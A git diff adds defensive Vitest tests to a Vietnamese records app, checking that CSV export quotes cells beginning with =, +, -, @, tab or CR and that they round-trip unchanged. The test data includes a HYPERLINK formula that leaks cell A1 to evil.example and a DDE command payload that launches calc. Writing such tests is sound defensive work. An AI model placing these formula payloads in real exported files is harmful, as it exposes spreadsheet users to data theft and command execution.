@@ -1,3 +1,4 @@
+import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
 import type { DocumentRecord, Meeting, Plan, ProcedureMonth, Unit } from '../domain/schemas';
 import { HEADERS } from './columns';
@@ -247,5 +248,73 @@ describe('CSV round trip: export, parse, validate gives the records back', () =>
 		const r = validateRows('procedures', parseCsv(toCsv('procedures', procedures)).rows, ctx);
 		expect(r.rejected).toEqual([]);
 		expect(r.records).toEqual(procedures);
+	});
+});
+
+describe('CSV injection: formula-leading text is written as text and read back unchanged', () => {
+	const risky = [
+		'=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
+		'+84 912 345 678',
+		'-5 người vắng',
+		'@SUM(A1:A9)',
+		'\t=1+1',
+		'\r=1+1',
+		"'=already quoted by someone",
+		"'plain quote"
+	];
+
+	/** The cells as a spreadsheet sees them: papaparse alone, without our import's unescaping. */
+	const rawCells = (text: string): string[][] =>
+		Papa.parse<string[]>(text.slice(1), { skipEmptyLines: true }).data.slice(1);
+
+	it('prefixes a single quote to text cells starting with = + - @ tab or CR, and nothing else', () => {
+		const docs: DocumentRecord[] = risky.map((title, i) => ({
+			...(documents[0] as DocumentRecord),
+			id: i === 0 ? '=cmd|"/c calc"!A1' : `d-${i}`,
+			number: i === 1 ? '-1/BC' : `${i}/BC`,
+			title
+		}));
+		const cells = rawCells(documentsToCsv(docs));
+		expect(cells[0]![0]).toBe('\'=cmd|"/c calc"!A1');
+		expect(cells[1]![2]).toBe("'-1/BC");
+		expect(cells.map((c) => c[7])).toEqual([
+			`'${risky[0]}`,
+			"'+84 912 345 678",
+			"'-5 người vắng",
+			"'@SUM(A1:A9)",
+			"'\t=1+1",
+			"'\r=1+1",
+			"''=already quoted by someone",
+			"'plain quote"
+		]);
+		// Dates, booleans and counts are untouched.
+		expect(cells[2]!.slice(3, 7)).toEqual(['ke_hoach', '2026-03-31', '1', '0']);
+	});
+
+	it('round-trips such titles, names, numbers and ids through export and import', () => {
+		const docs: DocumentRecord[] = risky
+			.filter((t) => t.trim() === t)
+			.map((title, i) => ({
+				...(documents[0] as DocumentRecord),
+				id: `=id-${i}`,
+				number: `-${i}/BC`,
+				title
+			}));
+		const r = validateRows('documents', parseCsv(toCsv('documents', docs)).rows, ctx);
+		expect(r.rejected).toEqual([]);
+		expect(r.records).toEqual(docs);
+
+		const named: Unit[] = [{ ...(units[0] as Unit), name: '=1+2 thôn', code: '-VP' }];
+		const u = validateRows('units', parseCsv(toCsv('units', named)).rows, {
+			...ctx,
+			knownUnitCodes: new Set(['-VP'])
+		});
+		expect(u.rejected).toEqual([]);
+		expect(u.records).toEqual(named);
+
+		const m: Meeting[] = [{ ...(meetings[1] as Meeting), id: '@m', title: '+Họp @thôn' }];
+		const back = validateRows('meetings', parseCsv(toCsv('meetings', m)).rows, ctx);
+		expect(back.rejected).toEqual([]);
+		expect(back.records).toEqual(m);
 	});
 });
